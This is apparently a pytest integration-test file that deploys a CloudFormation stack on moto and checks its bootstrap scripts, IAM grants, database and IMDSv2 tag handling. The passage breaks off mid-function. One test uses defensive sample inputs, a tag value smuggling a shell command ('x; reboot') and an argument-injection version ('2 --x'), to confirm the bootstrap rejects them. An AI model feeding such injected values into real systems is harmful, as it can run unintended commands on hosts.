"""infra/mark.yaml created on a real moto server, and the resources it made, read back.

Four stacks cover both sides of the template's conditions: one that creates its own
VPC and keeps SQLite on an EBS volume (one frontend), one in an existing VPC with
PostgreSQL from a secret (two frontends), HTTPS and a model file, one serving a model
repository (an S3 prefix) instead of one model, and one with its own RDS PostgreSQL
instance (two frontends). The spill function's image is "pushed" to
moto's ECR first (a manifest under the tag `mark deploy package` computes), and moto
is told to check that the image exists, as Lambda does.
"""

from __future__ import annotations

import ast
import base64
import contextlib
import hashlib
import json
import re
import shlex
import subprocess
import sys
import threading
import time
import uuid
import warnings
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import pytest
import yaml
from sqlalchemy.engine import make_url

from lambda_handlers import spill
from mark.cloud.aws.instances import TAG_CLUSTER
from mark.cloud.aws.interruptions import EVENT_PATTERN
from mark.config import ApiSpec, ModelSpec, Settings
from mark.deploy import image as img
from mark.deploy import template as tpl

ROOT = Path(__file__).resolve().parents[2]
REGION = "us-east-1"
ACCOUNT = "123456789012"  # moto's
#: What moto 5.2.5 leaves out of a stack without failing it (infra/README.md lists these).
MOTO_SKIPS = {"InterruptionQueuePolicy", "AgentTokenSecret"}
#: ... and with CreateDatabase=true: the database's secret (an AWS::SecretsManager::Secret too).
MOTO_SKIPS_OWN_DATABASE = MOTO_SKIPS | {"DatabaseSecret"}


@dataclass
class Stack:
    name: str
    params: dict[str, str]
    outputs: dict[str, str]
    physical: dict[str, str]  # logical id -> physical id, for what moto created
    created: set[str]  # logical ids moto reports created
    expected: set[str]  # logical ids whose condition holds
    endpoint: str
    unsupported: set[str] = field(default_factory=set)  # types moto warned it skipped

    def client(self, service: str) -> Any:
        return boto3.client(
            service,
            region_name=REGION,
            endpoint_url=self.endpoint,
            aws_access_key_id="testing",
            aws_secret_access_key="testing",
        )


def _conditions_hold(template: Mapping[str, Any], params: Mapping[str, str]) -> dict[str, bool]:
    """The template's conditions for these parameters (only the forms it uses)."""
    values = {k: p.default or "" for k, p in tpl.parameters(template).items()} | dict(params)
    conds: dict[str, bool] = {}

    def ev(expr: Any) -> Any:
        if isinstance(expr, str):
            return expr
        ((op, arg),) = expr.items()
        if op == "Ref":
            return values[arg]
        if op == "Condition":
            return conds[arg]
        if op == "Fn::Equals":
            return ev(arg[0]) == ev(arg[1])
        if op == "Fn::Not":
            return not ev(arg[0])
        if op == "Fn::And":
            return all(ev(a) for a in arg)
        if op == "Fn::Or":
            return any(ev(a) for a in arg)
        if op == "Fn::Join":
            return arg[0].join(ev(arg[1]).split(","))
        raise AssertionError(f"condition form {op} is not modelled here")

    for name, expr in template["Conditions"].items():
        conds[name] = bool(ev(expr))
    return conds


def _push(stack: Stack, image_uri: str) -> None:
    """What `docker push` leaves in ECR, as far as Lambda looks: a manifest under the tag."""
    repository, _, tag = image_uri.partition("/")[2].partition(":")
    ecr = stack.client("ecr")
    with contextlib.suppress(ecr.exceptions.RepositoryAlreadyExistsException):
        ecr.create_repository(repositoryName=repository)
    manifest = {
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": {
            "mediaType": "application/vnd.docker.container.image.v1+json",
            "size": 7023,
            "digest": "sha256:" + hashlib.sha256(tag.encode()).hexdigest(),
        },
        "layers": [],
    }
    with contextlib.suppress(ecr.exceptions.ImageAlreadyExistsException):  # pushed before
        ecr.put_image(repositoryName=repository, imageManifest=json.dumps(manifest), imageTag=tag)


def _create(endpoint: str, params: dict[str, str]) -> Stack:
    name = f"mark-test-{uuid.uuid4().hex[:8]}"
    stack = Stack(name, params, {}, {}, set(), set(), endpoint)
    stack.client("s3").create_bucket(Bucket=params["ArtifactBucket"])
    _push(stack, params["SpillImageUri"])
    cf = stack.client("cloudformation")
    body = (ROOT / "infra" / "mark.yaml").read_text()
    # moto runs in this process (a server thread): its "not supported" warnings land here,
    # and it reads MOTO_LAMBDA_STUB_ECR per call: false makes it look the image up in ECR.
    with warnings.catch_warnings(record=True) as caught, pytest.MonkeyPatch.context() as env:
        env.setenv("MOTO_LAMBDA_STUB_ECR", "false")
        warnings.simplefilter("always")
        cf.create_stack(
            StackName=name,
            TemplateBody=body,
            Parameters=[{"ParameterKey": k, "ParameterValue": v} for k, v in params.items()],
            Capabilities=["CAPABILITY_IAM"],
        )
        deadline = time.monotonic() + 60
        while True:
            desc = cf.describe_stacks(StackName=name)["Stacks"][0]
            if not desc["StackStatus"].endswith("_IN_PROGRESS") or time.monotonic() > deadline:
                break
            time.sleep(0.2)
        described = cf.describe_stack_resources(StackName=name)["StackResources"]
    for w in caught:
        if found := re.search(r"Tried to parse (\S+) but it's not supported", str(w.message)):
            stack.unsupported.add(found.group(1))
    assert desc["StackStatus"] == "CREATE_COMPLETE", desc.get("StackStatusReason")
    stack.outputs = {o["OutputKey"]: o["OutputValue"] for o in desc.get("Outputs", [])}
    for r in described:
        if "LogicalResourceId" in r:  # moto lists skipped resources without one
            stack.created.add(r["LogicalResourceId"])
            stack.physical[r["LogicalResourceId"]] = r.get("PhysicalResourceId") or ""
    template = tpl.load(body)
    conds = _conditions_hold(template, params)
    stack.expected = {
        k for k, r in template["Resources"].items() if conds.get(r.get("Condition", ""), True)
    }
    return stack


@pytest.fixture(scope="module")
def image_uri(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Where the README's commands push the image `mark deploy package` writes."""
    built = img.build_spill_image(tmp_path_factory.mktemp("deploy"))
    return f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/{img.REPOSITORY}:{built.tag}"


@pytest.fixture(scope="module")
def own_vpc(moto_endpoint: str, image_uri: str) -> Iterator[Stack]:
    """Own VPC, SQLite on EBS (so one frontend: a rule refuses more), HTTP only, the
    demo model."""
    params = {
        "ArtifactBucket": f"mark-art-{uuid.uuid4().hex[:8]}",
        "SpillImageUri": image_uri,
        "ClusterName": "prod",
        "LogRetentionDays": "14",
        "AllowedCidr": "203.0.113.0/24",
        "FrontendCount": "1",
    }
    yield _create(moto_endpoint, params)


@pytest.fixture(scope="module")
def existing_vpc(moto_endpoint: str, image_uri: str) -> Iterator[Stack]:
    """moto's default VPC, PostgreSQL URL in a secret, the default FrontendCount (2),
    HTTPS, a model file."""
    creds = {"aws_access_key_id": "testing", "aws_secret_access_key": "testing"}
    ec2 = boto3.client("ec2", region_name=REGION, endpoint_url=moto_endpoint, **creds)
    vpc = next(v["VpcId"] for v in ec2.describe_vpcs()["Vpcs"] if v["IsDefault"])
    subnets = ec2.describe_subnets(Filters=[{"Name": "vpc-id", "Values": [vpc]}])["Subnets"]
    subnets.sort(key=lambda s: s["AvailabilityZone"])
    secrets = boto3.client(
        "secretsmanager", region_name=REGION, endpoint_url=moto_endpoint, **creds
    )
    secret = secrets.create_secret(
        Name=f"mark-db-{uuid.uuid4().hex[:6]}", SecretString="postgresql://mark@db:5432/mark"
    )["ARN"]
    acm = boto3.client("acm", region_name=REGION, endpoint_url=moto_endpoint, **creds)
    cert = acm.request_certificate(DomainName="mark.example.com")["CertificateArn"]
    params = {
        "ArtifactBucket": f"mark-art-{uuid.uuid4().hex[:8]}",
        "SpillImageUri": image_uri,
        "VpcId": vpc,
        "SubnetIds": ",".join(s["SubnetId"] for s in subnets[:2]),
        "DatabaseSecretArn": secret,
        "CertificateArn": cert,
        "ModelKey": "models/resnet.pt",
        "ModelName": "resnet",
        "ModelInputShape": "3,224,224",
        "ApiPort": "9000",
        "AllowedCidr": "0.0.0.0/0",  # required, and a public endpoint is a choice one may make
    }
    yield _create(moto_endpoint, params)


@pytest.fixture(scope="module")
def repository(moto_endpoint: str, image_uri: str) -> Iterator[Stack]:
    """Own VPC, SQLite (one frontend), a model repository under a prefix. ModelKey and
    ModelNeuronKey are given too: the repository replaces them, so nothing may copy or
    read them."""
    params = {
        "ArtifactBucket": f"mark-art-{uuid.uuid4().hex[:8]}",
        "SpillImageUri": image_uri,
        "AllowedCidr": "203.0.113.0/24",
        "ModelRepositoryPrefix": "prod/models/",
        "ModelKey": "models/resnet.pt",
        "ModelNeuronKey": "models/resnet.neuron.pt",
        "FrontendCount": "1",
    }
    yield _create(moto_endpoint, params)


@pytest.fixture(scope="module")
def own_database(moto_endpoint: str, image_uri: str) -> Iterator[Stack]:
    """Own VPC, two frontends on the stack's own RDS PostgreSQL (CreateDatabase)."""
    params = {
        "ArtifactBucket": f"mark-art-{uuid.uuid4().hex[:8]}",
        "SpillImageUri": image_uri,
        "AllowedCidr": "203.0.113.0/24",
        "FrontendCount": "2",
        "CreateDatabase": "true",
    }
    yield _create(moto_endpoint, params)


def _user_data(stack: Stack, template_id: str) -> str:
    versions = stack.client("ec2").describe_launch_template_versions(LaunchTemplateId=template_id)
    data = versions["LaunchTemplateVersions"][0]["LaunchTemplateData"]
    return base64.b64decode(data["UserData"]).decode()


def _heredoc(script: str, path: str) -> str:
    match = re.search(rf"cat >{re.escape(path)} <<'?EOF'?\n(.*?)\nEOF\n", script, re.S)
    assert match, f"no heredoc for {path}"
    return match.group(1)


def _statements(stack: Stack, role_logical_id: str) -> list[dict[str, Any]]:
    """Every statement of every inline policy on the role (standalone policies included)."""
    iam = stack.client("iam")
    role = stack.physical[role_logical_id]
    out: list[dict[str, Any]] = []
    for name in iam.list_role_policies(RoleName=role)["PolicyNames"]:
        doc = iam.get_role_policy(RoleName=role, PolicyName=name)["PolicyDocument"]
        if isinstance(doc, str):  # moto keeps a role's own Policies as a Python repr
            doc = ast.literal_eval(doc)
        out.extend(s for s in doc["Statement"] if s)  # moto keeps AWS::NoValue as null
    return out


def _as_list(v: Any) -> list[Any]:
    return [x for x in v if x is not None] if isinstance(v, list) else [v]


# -- the stack as a whole -------------------------------------------------------------


@pytest.mark.parametrize("which", ["own_vpc", "existing_vpc", "repository", "own_database"])
def test_stack_creates_every_resource_moto_supports(
    which: str, request: pytest.FixtureRequest, aws_env: str
) -> None:
    stack: Stack = request.getfixturevalue(which)
    skips = MOTO_SKIPS_OWN_DATABASE if which == "own_database" else MOTO_SKIPS
    assert stack.expected - stack.created == skips
    assert stack.unsupported == {"AWS::SQS::QueuePolicy", "AWS::SecretsManager::Secret"}
    assert stack.created <= stack.expected  # nothing whose condition is false


def test_outputs_are_the_documented_ones(
    own_vpc: Stack, existing_vpc: Stack, own_database: Stack
) -> None:
    always = {
        "EndpointUrl",
        "InterruptionQueueUrl",
        "WorkerLaunchTemplateId",
        "SpillFunctionName",
        "ControllerGroupName",
        "AgentSecurityGroupId",
        "ControllerSecurityGroupId",
        "ControllerLogGroupName",
    }
    assert set(own_vpc.outputs) == always | {"StateVolumeId"}
    assert set(existing_vpc.outputs) == always  # PostgreSQL: no state volume
    assert set(own_database.outputs) == always | {"DatabaseEndpoint"}
    assert own_database.outputs["DatabaseEndpoint"].endswith(":5432")
    assert own_vpc.outputs["EndpointUrl"].startswith("http://")
    assert existing_vpc.outputs["EndpointUrl"].startswith("https://")


# -- what AwsFleet launches through --------------------------------------------------------


def test_worker_launch_template_runs_the_agent_with_the_worker_profile(own_vpc: Stack) -> None:
    ec2 = own_vpc.client("ec2")
    lt_id = own_vpc.outputs["WorkerLaunchTemplateId"]
    assert ec2.describe_launch_templates(LaunchTemplateIds=[lt_id])["LaunchTemplates"]
    data = ec2.describe_launch_template_versions(LaunchTemplateId=lt_id)["LaunchTemplateVersions"][
        0
    ]["LaunchTemplateData"]
    assert data["ImageId"].startswith("ami-")  # resolved from the SSM parameter
    profile = own_vpc.client("iam").get_instance_profile(
        InstanceProfileName=own_vpc.physical["WorkerInstanceProfile"]
    )["InstanceProfile"]
    assert data["IamInstanceProfile"]["Arn"] == profile["Arn"]
    assert [r["RoleName"] for r in profile["Roles"]] == [own_vpc.physical["WorkerRole"]]
    assert data["SecurityGroupIds"] == [own_vpc.outputs["AgentSecurityGroupId"]]
    assert "NetworkInterfaces" not in data  # AwsFleet passes the subnet per launch
    assert data["MetadataOptions"]["HttpTokens"] == "required"
    script = _user_data(own_vpc, lt_id)
    bucket = own_vpc.params["ArtifactBucket"]
    assert f'aws s3 cp "s3://{bucket}/mark/agent-bundle.tar.gz"' in script
    assert "-c /opt/mark/mark-src/constraints.txt" in script
    unit = _heredoc(script, "/etc/systemd/system/mark-agent.service")
    exec_start = unit.split("ExecStart=", 1)[1].split("\nRestart", 1)[0].replace("\\\n", " ")
    args = exec_start.split()
    assert args[:3] == ["/opt/mark/venv/bin/python", "-m", "bouncer.agent"]
    opts = dict(zip(args[3::2], args[4::2], strict=True))
    assert opts == {
        "--model-source": "$SOURCE",
        "--input-shape": "1,8,8",
        "--dtype": "float32",
        "--host": "0.0.0.0",
        "--port": "8500",
        "--imds-url": "http://169.254.169.254",  # the agent reports spot notices from IMDS
        "--neuron-artifact": '"$NEURON"',  # empty unless a Neuron device and ModelNeuronKey
    }
    # torch for the accelerator: the CPU build unless the instance has an NVIDIA GPU.
    assert 'TORCH_INDEX="--extra-index-url https://download.pytorch.org/whl/cpu"' in script
    assert "/dev/nvidia0" in script and 'TORCH_INDEX=""' in script
    assert "SOURCE='mark.demo:digits_model'" in script
    assert "${" not in script  # every ${...} was CloudFormation's to fill
    # The agent token: from the stack's secret into a root-only file systemd reads, never
    # onto the command line (ps) or into the log (no set -x).
    assert f"--secret-id '{own_vpc.name}-agent-token'" in script
    assert "install -m 600 /dev/null /etc/mark/agent.env" in script
    assert "EnvironmentFile=/etc/mark/agent.env" in unit
    assert "TOKEN" not in exec_start
    _no_tracing(script)


def _no_tracing(script: str) -> None:
    """The bootstrap never traces its commands: the log would hold the secrets it reads."""
    assert "set -euo pipefail" in script
    assert not re.search(r"^\s*set -[a-z]*x", script, re.M), "set -x writes secrets to the log"
    assert not re.search(r"echo .*\$(URL|AGENT_TOKEN|CREDS)", script)


def test_controller_user_data_writes_an_aws_world_config_with_the_stack_ids(
    own_vpc: Stack, existing_vpc: Stack, own_database: Stack
) -> None:
    subnets = {
        own_vpc.name: [own_vpc.physical["SubnetA"], own_vpc.physical["SubnetB"]],
        existing_vpc.name: existing_vpc.params["SubnetIds"].split(","),
        own_database.name: [own_database.physical["SubnetA"], own_database.physical["SubnetB"]],
    }
    for stack in (own_vpc, existing_vpc, own_database):
        script = _user_data(stack, stack.physical["ControllerLaunchTemplate"])
        config = yaml.safe_load(_heredoc(script, "/etc/mark/mark.yaml"))
        assert config["world"] == "aws"
        assert config["aws"] == {
            "region": REGION,
            "cluster": stack.params.get("ClusterName", "mark"),
            "launch_template_id": stack.outputs["WorkerLaunchTemplateId"],
            "subnet_ids": subnets[stack.name],
            "agent_port": 8500,
            "interruption_queue_url": stack.outputs["InterruptionQueueUrl"],
            "spill_function": stack.outputs["SpillFunctionName"],
        }
        api = ApiSpec(**config["api"])
        assert (api.host, api.port) == ("0.0.0.0", int(stack.params.get("ApiPort", "8080")))
        assert "repository" not in config  # ModelRepositoryPrefix empty: the one model
        (model,) = config["models"]
        spec = ModelSpec(**(model | {"source": "pkg.mod:factory"}))  # $SOURCE is set by bash
        assert spec.name == stack.params.get("ModelName", "digits")
        assert "mark --config /etc/mark/mark.yaml up" in script
        assert "install -m 600 /dev/null /etc/mark/env" in script
        assert f"--secret-id '{stack.name}-agent-token'" in script
        assert "printf 'MARK_AGENT_TOKEN=%s\\n' \"$AGENT_TOKEN\" >>/etc/mark/env" in script
        _no_tracing(script)
    sqlite = _user_data(own_vpc, own_vpc.physical["ControllerLaunchTemplate"])
    assert f"VOL='{own_vpc.outputs['StateVolumeId']}'" in sqlite
    assert "if [ -n '' ]; then" in sqlite  # no database secret
    assert "CREDS" not in sqlite  # no database in the stack
    pg = _user_data(existing_vpc, existing_vpc.physical["ControllerLaunchTemplate"])
    assert "VOL=''" in pg and existing_vpc.params["DatabaseSecretArn"] in pg
    assert "CREDS" not in pg  # its own URL, not the stack's database
    assert 'aws s3 cp "s3://' + existing_vpc.params["ArtifactBucket"] + '/models/resnet.pt"' in pg
    rds = _user_data(own_database, own_database.physical["ControllerLaunchTemplate"])
    assert "VOL=''" in rds and "if [ -n '' ]; then" in rds  # no volume, no URL secret
    assert f"--secret-id '{own_database.name}-database'" in rds


# -- the frontends: a group of FrontendCount, each signalling when it is ready ------------------


def test_each_frontend_signals_the_group_once_ready_or_on_failure(
    own_vpc: Stack, existing_vpc: Stack, own_database: Stack
) -> None:
    """The group's CreationPolicy and rolling update wait for these signals: SUCCESS only
    after the frontend answers the ALB's health check, FAILURE on any error before."""
    for stack in (own_vpc, existing_vpc, own_database):
        script = _user_data(stack, stack.physical["ControllerLaunchTemplate"])
        port = stack.params.get("ApiPort", "8080")
        tail = script.rstrip().splitlines()[-3:]
        assert tail == [
            f"until curl -sf -o /dev/null http://127.0.0.1:{port}/v2/health/ready; "
            "do sleep 5; done",
            "trap - ERR",
            "signal SUCCESS",
        ]
        assert f"--stack-name '{stack.name}'" in script
        # The trap is set before the first step that can fail (the package install).
        assert script.index("trap 'signal FAILURE' ERR") < script.index("dnf install")
        assert script.index("IID=$(") < script.index("trap 'signal FAILURE' ERR")


def test_the_failure_trap_signals_with_the_instance_id(own_database: Stack, tmp_path: Path) -> None:
    """The bootstrap's signal function and trap, run by bash with `aws` recording its
    arguments: a failing step sends FAILURE for this instance, and stops the script."""
    script = _user_data(own_database, own_database.physical["ControllerLaunchTemplate"])
    found = re.search(r"^signal\(\) \{\n.*?^\}\n^trap .*?$", script, re.M | re.S)
    assert found, "no signal function and trap in the frontend bootstrap"
    calls = tmp_path / "aws-calls"
    steps = "\n".join(
        [
            "set -euo pipefail",
            f'aws() {{ printf "%s\\n" "$*" >>{calls}; }}',
            "IID=i-0123456789abcdef0",
            found.group(0),
            "false",  # a step that fails
            "echo not reached",
        ]
    )
    run = subprocess.run(["bash", "-c", steps], capture_output=True, text=True, timeout=30)
    assert run.returncode != 0 and "not reached" not in run.stdout
    (call,) = calls.read_text().splitlines()
    args = call.split()
    assert args[:2] == ["cloudformation", "signal-resource"]
    opts = dict(zip(args[2::2], args[3::2], strict=True))
    assert opts == {
        "--region": REGION,
        "--stack-name": own_database.name,
        "--logical-resource-id": "ControllerGroup",
        "--unique-id": "i-0123456789abcdef0",
        "--status": "FAILURE",
    }


def _group(stack: Stack) -> dict[str, Any]:
    group: dict[str, Any]
    (group,) = stack.client("autoscaling").describe_auto_scaling_groups(
        AutoScalingGroupNames=[stack.outputs["ControllerGroupName"]]
    )["AutoScalingGroups"]
    return group


@pytest.mark.parametrize("which", ["existing_vpc", "own_database"])
def test_postgres_frontends_are_a_group_of_n_over_both_subnets(
    which: str, request: pytest.FixtureRequest
) -> None:
    stack: Stack = request.getfixturevalue(which)
    group = _group(stack)
    assert (group["MinSize"], group["MaxSize"], group["DesiredCapacity"]) == (2, 2, 2)
    assert len(group["Instances"]) == 2
    subnets = (
        stack.params["SubnetIds"].split(",")
        if "SubnetIds" in stack.params
        else [stack.physical["SubnetA"], stack.physical["SubnetB"]]
    )
    assert sorted(group["VPCZoneIdentifier"].split(",")) == sorted(subnets)
    assert group["TargetGroupARNs"] == [stack.physical["ApiTargetGroup"]]
    assert group["HealthCheckType"] == "ELB"


# -- the stack's own database (CreateDatabase) --------------------------------------------------


def test_own_database_is_encrypted_private_postgres_in_the_stacks_subnets(
    own_database: Stack,
) -> None:
    (db,) = [
        d
        for d in own_database.client("rds").describe_db_instances()["DBInstances"]
        if d["DBInstanceIdentifier"] == own_database.physical["Database"]
    ]
    assert (db["Engine"], db["DBInstanceClass"]) == ("postgres", "db.t4g.micro")
    assert db["StorageEncrypted"] is True and db["PubliclyAccessible"] is False
    assert (db["DBName"], db["MasterUsername"], db["AllocatedStorage"]) == ("mark", "mark", 20)
    endpoint = db["Endpoint"]
    assert endpoint["Port"] == 5432
    assert own_database.outputs["DatabaseEndpoint"] == f"{endpoint['Address']}:5432"
    subnets = {s["SubnetIdentifier"] for s in db["DBSubnetGroup"]["Subnets"]}
    assert subnets == {own_database.physical["SubnetA"], own_database.physical["SubnetB"]}
    # moto 5.2.5 reads VpcSecurityGroupIds, not CloudFormation's VPCSecurityGroups, so the
    # instance's group is checked in the template (test_template_policy.py); its rule here:


def test_own_database_admits_postgres_from_the_frontends_only(own_database: Stack) -> None:
    ec2 = own_database.client("ec2")
    (group,) = ec2.describe_security_groups(
        GroupIds=[own_database.physical["DatabaseSecurityGroup"]]
    )["SecurityGroups"]
    (rule,) = group["IpPermissions"]
    assert (rule["IpProtocol"], rule["FromPort"], rule["ToPort"]) == ("tcp", 5432, 5432)
    assert [p["GroupId"] for p in rule["UserIdGroupPairs"]] == [
        own_database.outputs["ControllerSecurityGroupId"]
    ]
    assert not rule["IpRanges"] and not rule["Ipv6Ranges"] and not rule["PrefixListIds"]


def test_own_database_frontends_read_its_secret_and_attach_no_volume(
    own_database: Stack, own_vpc: Stack, existing_vpc: Stack
) -> None:
    statements = {s["Sid"]: s for s in _statements(own_database, "ControllerRole")}
    read = statements["ReadDatabaseCredentials"]
    assert read["Action"] == "secretsmanager:GetSecretValue"
    # moto skips the secret (MOTO_SKIPS_OWN_DATABASE), so its Ref, the Resource, is empty
    # here; the template's statement names it (test_template_policy.py).
    assert "AttachTheStateVolume" not in statements and "ReadDatabaseUrl" not in statements
    assert "StateVolumeId" not in own_database.outputs
    for stack in (own_vpc, existing_vpc):  # no database in the stack: no grant
        assert "ReadDatabaseCredentials" not in str(_statements(stack, "ControllerRole"))
    for role in ("WorkerRole", "SpillFunctionRole"):
        assert "Database" not in str(_statements(own_database, role))


def test_own_database_url_is_made_from_its_secret_and_endpoint(
    own_database: Stack, tmp_path: Path
) -> None:
    """The bootstrap's lines that read the database's secret and write the URL, run by
    bash with `aws` answering the secret: the URL mark reads back has the password intact
    (quoted for a URL), the instance's endpoint, database mark, and TLS required."""
    script = _user_data(own_database, own_database.physical["ControllerLaunchTemplate"])
    found = re.search(r"^until CREDS=.*?>>/etc/mark/env$", script, re.M | re.S)
    assert found, "no database-secret lines in the frontend bootstrap"
    env_file = tmp_path / "env"
    password = 'p@ss:w/rd%#?&"x y'  # worse than the generated one (letters and digits)
    secret = json.dumps({"username": "mark", "password": password})
    steps = "\n".join(
        [
            "set -euo pipefail",
            'aws() { printf "%s\\n" "$FAKE_SECRET"; }',  # the CLI's text output
            found.group(0).replace("python3.11", shlex.quote(sys.executable)),
        ]
    ).replace("/etc/mark/env", str(env_file))
    run = subprocess.run(
        ["bash", "-c", steps],
        capture_output=True,
        text=True,
        timeout=30,
        env={"PATH": "/usr/bin:/bin", "FAKE_SECRET": secret},
    )
    assert run.returncode == 0, run.stderr
    (line,) = env_file.read_text().splitlines()
    key, _, url = line.partition("=")
    assert key == "MARK_DATABASE_URL"
    db_url = make_url(Settings(database_url=url).db_url)
    address, port = own_database.outputs["DatabaseEndpoint"].rsplit(":", 1)
    assert db_url.drivername == "postgresql+asyncpg"
    assert (db_url.username, db_url.password) == ("mark", password)
    assert (db_url.host, db_url.port, db_url.database) == (address, int(port), "mark")
    assert dict(db_url.query) == {"ssl": "require"}
    _no_tracing(script)


# -- a model repository (ModelRepositoryPrefix) ----------------------------------------------


def test_controller_config_names_the_repository_instead_of_a_model(repository: Stack) -> None:
    script = _user_data(repository, repository.physical["ControllerLaunchTemplate"])
    config = yaml.safe_load(_heredoc(script, "/etc/mark/mark.yaml"))
    bucket = repository.params["ArtifactBucket"]
    assert config["repository"] == f"s3://{bucket}/prod/models/"
    assert set(config) == {"world", "data_dir", "api", "aws", "repository"}  # no models: list
    assert config["aws"]["launch_template_id"] == repository.outputs["WorkerLaunchTemplateId"]
    # mark reads the manifests itself: the bootstrap copies the bundle and no model file.
    assert re.findall(r'aws s3 cp "(s3://[^"]+)"', script) == [
        f"s3://{bucket}/mark/agent-bundle.tar.gz"
    ]
    assert "$SOURCE" not in script and "resnet" not in script  # ModelKey: replaced
    _no_tracing(script)


def _exec_start(unit: str) -> list[str]:
    """The agent's command line in a unit file's text, as the shell wrote it there."""
    return unit.split("ExecStart=", 1)[1].split("\nRestart", 1)[0].replace("\\\n", " ").split()


def test_repository_worker_runs_the_agent_on_the_model_and_version_it_is_tagged_with(
    repository: Stack,
) -> None:
    script = _user_data(repository, repository.outputs["WorkerLaunchTemplateId"])
    bucket = repository.params["ArtifactBucket"]
    args = _exec_start(_heredoc(script, "/etc/systemd/system/mark-agent.service"))
    assert args[:3] == ["/opt/mark/venv/bin/python", "-m", "bouncer.agent"]
    assert dict(zip(args[3::2], args[4::2], strict=True)) == {
        "--repository": f"s3://{bucket}/prod/models/",
        "--model": '"$MODEL"',
        "--version": '"$VERSION"',
        "--host": "0.0.0.0",
        "--port": "8500",
        "--imds-url": "http://169.254.169.254",
    }
    # The agent fetches the model with boto3: the bootstrap copies the bundle only, and
    # neither ModelKey nor ModelNeuronKey (given, but replaced by the repository).
    assert re.findall(r'aws s3 cp "(s3://[^"]+)"', script) == [
        f"s3://{bucket}/mark/agent-bundle.tar.gz"
    ]
    assert "resnet" not in script and "SOURCE" not in script and "${" not in script
    _no_tracing(script)


class _Imds(BaseHTTPRequestHandler):
    """IMDSv2 as far as the bootstrap asks it: a token for a PUT, tags only with it."""

    TOKEN = "imds-session-token"
    TAGS = "/latest/meta-data/tags/instance/"

    def _reply(self, status: int, body: str = "") -> None:
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())

    def do_PUT(self) -> None:
        ttl = self.headers.get("X-aws-ec2-metadata-token-ttl-seconds")
        if self.path == "/latest/api/token" and ttl is not None:
            self._reply(200, self.TOKEN)
        else:
            self._reply(400)

    def do_GET(self) -> None:
        if self.headers.get("X-aws-ec2-metadata-token") != self.TOKEN:
            self._reply(401)  # HttpTokens: required
            return
        tags: dict[str, str] = self.server.tags  # type: ignore[attr-defined]
        key = self.path.removeprefix(self.TAGS)
        if self.path.startswith(self.TAGS) and key in tags:
            self._reply(200, tags[key])
        else:
            self._reply(404)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.mark.parametrize(
    ("tags", "served"),
    [
        ({"mark:model": "ranker", "mark:version": "2"}, ("ranker", "2")),
        ({"mark:model": "ranker"}, None),  # no version tag: the bootstrap stops
        ({"mark:model": "x; reboot", "mark:version": "2"}, None),  # not a model name
        ({"mark:model": "ranker", "mark:version": "2 --x"}, None),  # not a version number
    ],
)
def test_repository_worker_reads_its_tags_from_imdsv2_into_the_agent_unit(
    repository: Stack, tmp_path: Path, tags: dict[str, str], served: tuple[str, str] | None
) -> None:
    """The bootstrap's tag lines and unit heredoc, run by bash against a fake IMDSv2 (tokens
    required) on localhost: the unit it writes runs the agent on the tagged model, or,
    for a missing or malformed tag, the script stops before writing it."""
    script = _user_data(repository, repository.outputs["WorkerLaunchTemplateId"])
    found = re.search(r"^IMDS_TOKEN=.*?^\[\[.*?\]\]$", script, re.M | re.S)
    assert found, "no tag-reading lines in the worker bootstrap"
    unit = tmp_path / "mark-agent.service"
    heredoc = re.search(
        r"^cat >/etc/systemd/system/mark-agent.service <<EOF\n.*?^EOF$", script, re.M | re.S
    )
    assert heredoc
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Imds)
    server.tags = tags  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        local = f"http://127.0.0.1:{server.server_address[1]}"
        steps = "\n".join(["set -euo pipefail", found.group(0), heredoc.group(0)]).replace(
            "http://169.254.169.254/latest", local + "/latest"
        )
        steps = steps.replace("/etc/systemd/system/mark-agent.service", str(unit))
        run = subprocess.run(["bash", "-c", steps], capture_output=True, text=True, timeout=30)
    finally:
        server.shutdown()
        server.server_close()
    if served is None:
        assert run.returncode != 0 and not unit.exists(), run.stdout + run.stderr
        return
    assert run.returncode == 0, run.stderr
    args = shlex.split(" ".join(_exec_start(unit.read_text())))  # systemd's quoting
    opts = dict(zip(args[3::2], args[4::2], strict=True))
    assert (opts["--model"], opts["--version"]) == served
    bucket = repository.params["ArtifactBucket"]
    assert opts["--repository"] == f"s3://{bucket}/prod/models/"
    assert opts["--imds-url"] == "http://169.254.169.254"  # the agent's, not the test's


def test_repository_roles_read_and_list_exactly_the_prefix(
    repository: Stack, own_vpc: Stack, existing_vpc: Stack
) -> None:
    bucket = repository.params["ArtifactBucket"]
    read = {
        "Sid": "ReadModelRepository",
        "Effect": "Allow",
        "Action": "s3:GetObject",
        "Resource": f"arn:aws:s3:::{bucket}/prod/models/*",
    }
    listing = {
        "Sid": "ListModelRepository",
        "Effect": "Allow",
        "Action": "s3:ListBucket",
        "Resource": f"arn:aws:s3:::{bucket}",
        "Condition": {"StringLike": {"s3:prefix": "prod/models/*"}},
    }
    bundle = f"arn:aws:s3:::{bucket}/mark/agent-bundle.tar.gz"
    for role in ("WorkerRole", "ControllerRole", "SpillFunctionRole"):
        s3 = [s for s in _statements(repository, role) if "s3:" in str(s["Action"])]
        # ModelKey and ModelNeuronKey are set but replaced: no grant names them.
        artifacts = [] if role == "SpillFunctionRole" else [("ReadArtifacts", [bundle])]
        assert [(s["Sid"], _as_list(s["Resource"])) for s in s3[: len(artifacts)]] == artifacts
        assert s3[len(artifacts) :] == [read, listing], role
    for stack in (own_vpc, existing_vpc):  # no prefix: no repository grant anywhere
        for role in ("WorkerRole", "ControllerRole", "SpillFunctionRole"):
            sids = [s.get("Sid", "") for s in _statements(stack, role)]
            assert not [s for s in sids if "ModelRepository" in s], (stack.name, role)


def test_repository_spill_function_gets_no_model_source(repository: Stack) -> None:
    """Each event carries its model's contract (an s3:// artifact in the prefix): the
    function is told no model of its own. Its memory is the one setting for all models."""
    fn = repository.client("lambda").get_function(
        FunctionName=repository.outputs["SpillFunctionName"]
    )
